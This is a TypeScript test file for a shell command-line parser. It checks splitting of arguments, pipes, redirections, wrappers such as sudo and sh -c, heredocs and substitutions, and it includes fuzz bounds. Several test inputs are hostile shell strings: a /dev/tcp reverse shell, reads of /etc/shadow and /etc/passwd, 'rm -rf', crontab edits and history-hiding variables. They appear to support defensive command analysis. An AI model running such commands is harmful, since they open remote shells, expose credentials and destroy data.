import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { readArgv, readCommandLine, type CommandLine } from './command-line.ts';

const shown = (line: CommandLine): string[] =>
  line.commands.map(({ name, args, writes, reads, pipedFrom, via }) =>
    [
      ...via.map((one) => `${one}:`),
      name || '-',
      ...args.map((arg) => `[${arg}]`),
      ...writes.map((path) => `>${path}`),
      ...reads.map((path) => `<${path}`),
      ...(pipedFrom === undefined ? [] : [`|${pipedFrom.name}`]),
    ].join(' '),
  );

describe('a command line', () => {
  it.each<[string, string[]]>([
    ['uname -a', ['uname [-a]']],
    ['  /usr/bin/wget "http://x/y z"  ', ['wget [http://x/y z]']],
    [`echo 'a;b|c' "d\\"e" f\\ g`, ['echo [a;b|c] [d"e] [f g]']],
    ['a; b && c || d & e', ['a', 'b', 'c', 'd', 'e']],
    ['cat /etc/passwd | grep root | wc -l', ['cat [/etc/passwd]', 'grep [root] |cat', 'wc [-l] |grep']],
    ['x > /tmp/a 2>&1 >>b < c', ['x >/tmp/a >b <c']],
    ['bash -i >& /dev/tcp/h/1 0>&1', ['bash [-i] >/dev/tcp/h/1']],
    ['x 2>/dev/null &>all', ['x >/dev/null >all']],
    ['>/tmp/.file && cd /tmp', ['- >/tmp/.file', 'cd [/tmp]']],
    ['A=1 B=2 run x', ['run [x]']],
    ['echo $(uname -m) `id -u`', ['uname [-m]', 'id [-u]', 'echo [$(…)] [`…`]']],
    ['echo "$(cat /etc/shadow | head -1)"', ['cat [/etc/shadow]', 'head [-1] |cat', 'echo [$(…)]']],
    ['(crontab -l; echo x) | crontab -', ['crontab [-l]', 'echo [x]', 'crontab [-]']],
    ['if true; then wget x; else ls; fi', ['true', 'wget [x]', 'ls', 'fi']],
    ['while read i; do echo $i; done < f', ['read [i]', 'echo [$i]', 'done <f']],
    ['sudo -u root /bin/busybox wget u', ['sudo: busybox: wget [u]']],
    ['timeout -s KILL 5 nohup ./x &', ['timeout: nohup: x']],
    ['env A=1 sh -c "id; uname"', ['env: sh [-c] [id; uname]', 'id', 'uname']],
    ['bash -lc "wget x"', ['bash [-lc] [wget x]', 'wget [x]']],
    ['eval "rm -rf /x"', ['eval [rm -rf /x]', 'rm [-rf] [/x]']],
    ['su root -c "id"', ['su [root] [-c] [id]', 'id']],
    ['xargs -n 1 kill -9', ['xargs: kill [-9]']],
    ['ls # not; this', ['ls']],
    ['cat > /tmp/f <<EOF\nwget x\nEOF\nid', ['cat >/tmp/f', 'id']],
    ['sh <<E\nuname\nE', ['sh', 'uname']],
    ['bash <<< "id -u"', ['bash', 'id [-u]']],
    ["echo $'\\x41\\101\\n'", ['echo [AA\n]']],
    ['a\\\nb', ['ab']],
    ['', []],
    ['"unclosed', ['unclosed']],
    ['$(', ['$(…)']],
    ["'", ['-']],
  ])('%s', (text, expected) => expect(shown(readCommandLine(text))).toEqual(expected));

  it('keeps assignments', () => {
    expect(readCommandLine('HISTFILE=/dev/null').commands[0]?.assignments).toEqual(['HISTFILE=/dev/null']);
    expect(readCommandLine('export HISTSIZE=0').commands[0]?.assignments).toEqual(['HISTSIZE=0']);
  });

  it('reads what ran the same way', () => {
    expect(shown(readArgv(['sudo', 'sh', '-c', 'id;w']))).toEqual(['sudo: sh [-c] [id;w]', 'id', 'w']);
    expect(shown(readArgv([]))).toEqual([]);
  });

  it('bounds whatever comes', () => {
    for (const text of [
      'a;'.repeat(20_000),
      '$('.repeat(9000),
      'sh -c "'.repeat(3000),
      '`'.repeat(16_000),
      '<<'.repeat(9000),
      '('.repeat(17_000),
      'x '.repeat(9000),
      '\\'.repeat(17_000),
    ]) {
      const line = readCommandLine(text);
      expect(line.commands.length).toBeLessThanOrEqual(256);
      for (const command of line.commands) expect(command.args.length).toBeLessThanOrEqual(512);
    }
  });

  it('never throws, and never invents a word that is not in the text', () => {
    const alphabet = fc.constantFrom(...'ab /;|&<>()$`\'"\\\n#-=*'.split(''), 'sh -c ', 'sudo ', '<<E', '$(', 'wget ');
    fc.assert(
      fc.property(
        fc.array(alphabet, { maxLength: 80 }).map((parts) => parts.join('')),
        (text) => {
          for (const command of readCommandLine(text).commands)
            for (const word of command.args) expect(isPartOf(word.replaceAll(/[^a-z]/g, ''), text)).toBe(true);
        },
      ),
      { numRuns: 500 },
    );
  });
});

/** Whether the letters of `word` occur in `text` in their order. */
function isPartOf(word: string, text: string): boolean {
  let at = -1;
  for (const letter of word) {
    at = text.indexOf(letter, at + 1);
    if (at < 0) return false;
  }
  return true;
}
